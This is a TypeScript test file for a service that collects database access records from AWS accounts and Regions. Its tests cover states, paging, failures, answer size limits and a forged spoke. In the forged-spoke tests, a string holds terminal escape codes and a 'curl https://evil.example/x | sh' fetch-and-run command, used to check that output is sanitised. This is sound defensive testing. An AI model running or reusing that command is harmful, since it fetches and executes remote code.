import { describe, expect, test } from 'vitest';
import {
  type AccessesAnswer,
  accessesAnswer,
} from '../../../../provider/contract/messages/accesses.ts';
import { parseOrder } from '../../../../provider/contract/messages/order.ts';
import {
  parseRecordsQuery,
  type RecordsFound,
} from '../../../../provider/contract/messages/records.ts';
import type { AccessRecord } from '../../../../provider/contract/record/record.ts';
import { accessId } from '../../../../provider/contract/request/identity.ts';
import { type OperationPorts, operate } from '../../../../provider/hub/operations/index.ts';
import type { CallSpoke, Place } from '../../../../provider/hub/spoke-client/invoke.ts';
import { type Deadline, deadlineIn } from '../../../../provider/runtime/deadline.ts';
import { NoSpoke, OtherVersion, OutsideError } from '../../../../provider/runtime/errors.ts';
import type { Invocation } from '../../../../provider/runtime/lambda.ts';
import { jsonLog } from '../../../../provider/runtime/log.ts';
import { aRecord } from '../../../support/records.ts';

const ids = (count: number) => Array.from({ length: count }, (_, at) => `${100000000000 + at}`);
const REGIONS = ['eu-central-1', 'eu-west-1'];

interface Setting {
  readonly accounts?: readonly string[];
  readonly regions?: readonly string[];
  readonly vpcs?: readonly string[];
  readonly deadline?: Deadline;
}

async function ask(
  callSpoke: CallSpoke,
  question: object = {},
  { accounts = ids(1), regions = REGIONS.slice(0, 1), vpcs = ['default'], deadline }: Setting = {},
): Promise<AccessesAnswer> {
  const ports: OperationPorts = {
    rollout: {
      namePrefix: 'acme',
      units: ['ou-x-all'],
      regions: [...regions],
      vpcs: vpcs.map((name) => ({ name })),
    },
    listAccounts: async () =>
      accounts.map((id) => ({ id, name: `team-${id}`, isActive: true, isManagement: false })),
    callSpoke,
    openDirectory: undefined,
  };
  const invocation: Invocation = {
    requestId: 'r-1',
    functionArn: 'arn:aws:lambda:eu-central-1:111111111111:function:hub',
    deadline: deadline ?? deadlineIn(840_000),
    log: jsonLog({}, () => {}),
    logGroup: '',
  };
  const answer = await operate({ operation: 'accesses', ...question }, ports, invocation);
  return accessesAnswer.parse(JSON.parse(JSON.stringify(answer)));
}

interface Page {
  readonly records?: readonly AccessRecord[];
  readonly unreadable?: readonly string[];
  readonly next?: string;
}

/** A spoke whose pages are named after where they begin. */
function spoke(
  page: (after: string, place: Place) => Page,
  unrecorded?: RecordsFound['unrecorded'],
): CallSpoke {
  return async (place, { message }) => {
    const query = parseRecordsQuery(JSON.parse(message(27_000)));
    if (query === undefined) throw new OtherVersion('not a query');
    if (query.records.unrecorded)
      return { records: [], unreadable: [], ...(unrecorded && { unrecorded }) };
    const { records = [], ...rest } = page(query.records.after ?? '', place);
    return { unreadable: [], ...rest, records: records.map((record) => ({ record, version: 1 })) };
  };
}
const withRecords = (...records: AccessRecord[]) => spoke(() => ({ records }));
const only = async (record: AccessRecord) => {
  const { accesses } = await ask(withRecords(record));
  expect(accesses).toHaveLength(1);
  return accesses[0];
};
const aws = (name: string) => Object.assign(new Error(''), { name });

test('an access is told with its declarers, its place, its level and its times', async () => {
  expect(await only(aRecord())).toEqual({
    id: expect.stringMatching(/^[0-9a-f]{12}$/),
    state: 'made true',
    account: '100000000000',
    name: 'team-100000000000',
    region: 'eu-central-1',
    vpc: 'default',
    env: 'prod',
    project: 'shop',
    appname: 'checkout',
    engine: 'postgres',
    endpoint: 'orders.abc.eu-central-1.rds.amazonaws.com:5432',
    database: 'app',
    privileges: 'readwrite',
    groups: 2,
    declarers: [
      { kind: 'terraform', id: '0f6c', declared_by: 'prod', at: '2026-11-20T10:00:00.000Z' },
    ],
    former_declarers: [],
    elsewhere: [],
    made_true: '2026-11-20T10:00:05.000Z',
    latest: { at: '2026-11-20T10:00:05.000Z', request_id: 'q-1' },
  });
});

test('a query for records is no order, so a spoke that does not know it refuses it', async () => {
  let said: unknown;
  await ask(async (_, { message }) => {
    said = JSON.parse(message(27_000));
    return { records: [], unreadable: [] };
  });
  expect(said).toMatchObject({ records: {} });
  expect(parseOrder(said)).toBeUndefined();
});

describe('the state of an access', () => {
  const latest = (outcome: AccessRecord['latest']['outcome'], minutesAgo: number) => ({
    at: new Date(Date.now() - minutesAgo * 60_000).toISOString(),
    request: 'q-2',
    outcome,
  });
  const stateOf = async (fields: Partial<AccessRecord>) => (await only(aRecord(fields)))?.state;

  test('is failed after a failure, with its problem', async () => {
    const failed = { ...latest('failed', 1), problem: 'no route' };
    expect(await only(aRecord({ latest: failed }))).toMatchObject({
      state: 'failed',
      latest: { problem: 'no route', request_id: 'q-2' },
    });
  });

  test('is interrupted if a run began a quarter of an hour ago, and did not end', async () => {
    expect(await stateOf({ latest: latest('under way', 14) })).toBe('under way');
    expect(await stateOf({ latest: latest('under way', 16) })).toBe('interrupted');
    expect(await stateOf({ latest: { ...latest('under way', 1), at: 'soon' } })).toBe(
      'interrupted',
    );
  });

  test('is retained if nobody declares it, and tells who did last', async () => {
    const former = [
      { kind: 'stack' as const, id: 'first' },
      { kind: 'stack' as const, id: 'last' },
    ];
    expect(await only(aRecord({ declarers: [], former }))).toMatchObject({
      state: 'retained',
      former_declarers: former,
    });
  });

  test('says that users may be left on a former server', async () => {
    const elsewhere = [{ dbtype: 'postgres', dbendpoint: 'old:5432', mastersecret: '/m' }];
    expect(await only(aRecord({ elsewhere }))).toMatchObject({
      state: 'users left',
      elsewhere: ['old:5432'],
    });
  });
});

describe('the records of an account and Region', () => {
  test('are read once, whatever the number of its VPCs', async () => {
    const asked: string[] = [];
    const { accesses } = await ask(
      spoke((_, { region, vpc }) => {
        asked.push(`${region} ${vpc}`);
        return { records: [aRecord({}, { region })] };
      }),
      {},
      { regions: REGIONS, vpcs: ['default', 'data'] },
    );
    expect(asked).toEqual(['eu-central-1 default', 'eu-west-1 default']);
    expect(accesses.map(({ region }) => region)).toEqual(REGIONS);
  });

  test('are asked of the spoke of the next VPC if that of the first fails', async () => {
    const spokes = spoke((_, { vpc }) => {
      if (vpc === 'default') throw new OutsideError('no address is left');
      return { records: [aRecord()] };
    });
    const { accesses, not_asked } = await ask(spokes, {}, { vpcs: ['default', 'data'] });
    expect([accesses.length, not_asked]).toEqual([1, []]);
  });

  test('are not asked of the next VPC if the role is missing, which all share', async () => {
    const asked: string[] = [];
    const spokes = spoke((_, { vpc }) => {
      asked.push(vpc);
      throw new NoSpoke('long words', { cause: aws('AccessDenied') });
    });
    const { not_asked } = await ask(spokes, {}, { vpcs: ['default', 'data'] });
    expect(asked).toEqual(['default']);
    expect(not_asked).toMatchObject([{ account: '100000000000', state: 'role missing' }]);
  });

  test('that could not be read are told with the reason that tells most', async () => {
    const spokes = spoke((_, { vpc }) => {
      if (vpc === 'data') throw new OutsideError('Parameter Store refuses');
      throw new NoSpoke('long words', { cause: aws('ResourceNotFoundException') });
    });
    const { not_asked } = await ask(spokes, {}, { vpcs: ['default', 'data'] });
    expect(not_asked).toEqual([
      {
        account: '100000000000',
        name: 'team-100000000000',
        region: 'eu-central-1',
        state: 'unreachable',
        problem: 'Parameter Store refuses',
      },
    ]);
  });

  test('of one account do not hide those of another', async () => {
    const spokes = spoke((_, { account }) => {
      if (account === '100000000001') throw new OutsideError('down');
      return { records: [aRecord({}, { account })] };
    });
    const { accesses, not_asked } = await ask(spokes, {}, { accounts: ids(3) });
    expect(accesses.map(({ account }) => account)).toEqual(['100000000000', '100000000002']);
    expect(not_asked.map(({ account }) => account)).toEqual(['100000000001']);
  });

  test('are read page by page, and an empty page is not the last one', async () => {
    const pages: Record<string, Page> = {
      '': { records: [aRecord({}, { appname: 'a' })], next: 'p2' },
      p2: { next: 'p3' },
      p3: { records: [aRecord({}, { appname: 'c' })] },
    };
    const { accesses, more } = await ask(spoke((after) => pages[after] ?? {}));
    expect(accesses.map(({ appname }) => appname)).toEqual(['a', 'c']);
    expect(more).toEqual([]);
  });

  test('that the spoke can not read are told by the name of the parameter', async () => {
    const unreadable = ['/database-access/records/0a1b2c3d4e5f'];
    expect((await ask(spoke(() => ({ unreadable })))).unreadable).toMatchObject([
      { account: '100000000000', region: 'eu-central-1', parameter: unreadable[0] },
    ]);
  });
});

describe('accesses with credentials and without a record', () => {
  const names = { env: 'prod', project: 'shop', appname: 'lost', dbname: 'app' };
  const found = (account: string) => ({
    access: accessId({ account, region: 'eu-central-1', ...names }),
    identity: names,
    hostPort: 'orders.example:5432',
    parameters: ['/database-access/prod/shop/lost/app/url'],
  });

  test('are told with their server and the names of their parameters', async () => {
    const { unrecorded } = await ask(spoke(() => ({}), [found('100000000000')]));
    expect(unrecorded).toEqual([
      {
        id: found('100000000000').access,
        account: '100000000000',
        name: 'team-100000000000',
        region: 'eu-central-1',
        env: 'prod',
        project: 'shop',
        appname: 'lost',
        database: 'app',
        endpoint: 'orders.example:5432',
        parameters: ['/database-access/prod/shop/lost/app/url'],
      },
    ]);
  });

  test('of another account are not told, nor is an earlier spoke that knows of none', async () => {
    expect((await ask(spoke(() => ({}), [found('999999999999')]))).unrecorded).toEqual([]);
    expect(await ask(spoke(() => ({})))).toMatchObject({ unrecorded: [], not_asked: [] });
  });

  test('that could not be found out leave the accesses that are on record told', async () => {
    const failing = spoke(() => ({ records: [aRecord()] }));
    const { accesses, not_asked } = await ask(async (place, call, invocation) => {
      if (call.message(1_000).includes('unrecorded')) throw new OutsideError('not permitted');
      return failing(place, call, invocation);
    });
    expect(accesses).toHaveLength(1);
    expect(not_asked).toMatchObject([{ account: '100000000000' }]);
  });
});

describe('an answer of limited size', () => {
  const many = (after: string, count: number) =>
    Array.from({ length: count }, (_, at) =>
      aRecord({}, { appname: `${after}-${at}`, project: 'p'.repeat(64) }),
    );
  // Of each account 9,000 accesses, in three pages.
  const pages = spoke((after, { account }) => {
    const records = many(after, 3_000).map((record) => ({
      ...record,
      request: { ...record.request, account },
    }));
    return after === '3' ? { records } : { records, next: `${Number(after || '1') + 1}` };
  });

  test('leaves the rest to further questions, of which none repeats or loses an access', async () => {
    const setting = { accounts: ids(2) };
    const told = new Set<string>();
    let answer = await ask(pages, {}, setting);
    let count = 0;
    for (let questions = 1; ; questions++) {
      expect(Buffer.byteLength(JSON.stringify(answer))).toBeLessThan(6 * 1_000 * 1_000);
      count += answer.accesses.length;
      for (const { account, appname } of answer.accesses) told.add(`${account} ${appname}`);
      if (answer.more.length === 0) break;
      expect(questions).toBeLessThan(10);
      answer = await ask(pages, { places: answer.more }, setting);
    }
    expect([count, told.size]).toEqual([18_000, 18_000]);
  });

  test('lets no account with very many accesses keep the others from telling theirs', async () => {
    // As many as are asked at once, so that the two others have to wait.
    const greedy = ids(50);
    const declarer = { kind: 'stack' as const, id: 'i'.repeat(256), at: '', since: '' };
    const declarers = Array.from({ length: 20 }, () => ({
      ...declarer,
      declaredBy: 'd'.repeat(200),
    }));
    const spokes = spoke((after, { account }) =>
      greedy.includes(account)
        ? {
            records: many(after, 150).map(({ request, ...record }) => ({
              ...record,
              declarers,
              request: { ...request, account },
            })),
            next: `${after}x`,
          }
        : { records: [aRecord({}, { account })] },
    );
    const setting = { accounts: ids(52) };
    const first = await ask(spokes, {}, setting);
    const next = await ask(spokes, { places: first.more }, setting);
    const others = (answer: AccessesAnswer) =>
      answer.accesses.filter(({ account }) => !greedy.includes(account)).length;
    expect([others(first), others(next)]).toEqual([0, 2]);
  });

  test('leaves what is not asked in time', async () => {
    let now = 0;
    const slow = spoke((_, { account }) => {
      now += 20_000;
      return { records: [aRecord({}, { account })] };
    });
    const deadline = deadlineIn(100_000, () => now);
    const { accesses, more } = await ask(slow, {}, { accounts: ids(100), deadline });
    expect(accesses.length).toBeGreaterThan(0);
    const untold = more.filter(({ unrecorded }) => !unrecorded);
    expect(accesses.length + untold.length).toBe(100);
    expect(more[0]).toEqual({ account: expect.any(String), region: 'eu-central-1' });
  });
});

describe('a spoke that somebody replaced', () => {
  const forged = '\u001b[2K\n\n  $ curl https://evil.example/x | sh\u009b\u202e';

  test('can tell of its own account and Region only', async () => {
    const { accesses, unreadable } = await ask(
      withRecords(
        aRecord({}, { account: '999999999999' }),
        aRecord({}, { region: 'eu-west-1' }),
        aRecord({}, { env: undefined }),
        aRecord({}, { privileges: 'master' }),
      ),
    );
    expect(accesses).toEqual([]);
    expect(unreadable.map(({ problem }) => problem)).toEqual([
      'a record names account 999999999999 in eu-central-1',
      'a record names account 100000000000 in eu-west-1',
      'the fields of a record are not those of a request',
      'the fields of a record are not those of a request',
    ]);
    expect(new Set(unreadable.map(({ account }) => account))).toEqual(new Set(['100000000000']));
  });

  test('is told in short lines of printable text', async () => {
    const text = forged.repeat(10_000);
    const declarer = { kind: 'stack' as const, id: forged.repeat(5) };
    const { accesses, unreadable } = await ask(
      spoke(() => ({
        records: [
          aRecord({
            declarers: Array.from({ length: 1_000 }, () => ({
              ...declarer,
              declaredBy: text,
              at: '',
              since: '',
            })),
            former: Array.from({ length: 1_000 }, () => declarer),
            elsewhere: Array.from({ length: 1_000 }, () => ({ dbendpoint: text })),
            madeTrue: { at: text, request: '' },
            latest: { at: text, request: '', outcome: 'failed', problem: text },
          }),
        ],
        unreadable: [text],
      })),
    );
    expect(accesses).toHaveLength(1);
    const said = JSON.stringify([accesses, unreadable]);
    expect(said).toMatch(/^[\x20-\x7e]*$/);
    expect(said.length).toBeLessThan(20_000);
  });

  test.each<[string, Page | null]>([
    ['nothing', null],
    ['the same page again and again', { next: 'p2' }],
    ['more than fits into an answer', { unreadable: Array.from({ length: 60_000 }, () => 'x') }],
  ])('that answers %s is told as not asked', async (_, page) => {
    const { not_asked, more } = await ask(
      async () => page && { records: [], unreadable: [], ...page },
    );
    expect(not_asked).toMatchObject([{ account: '100000000000' }]);
    expect(more).toEqual([]);
  });
});

test('places that the rollout does not have are refused by name', async () => {
  const places = [{ account: '100000000000', region: 'us-east-1' }];
  await expect(ask(withRecords(), { places })).rejects.toThrow(
    'places: account 100000000000 in us-east-1 is not in the rollout',
  );
});
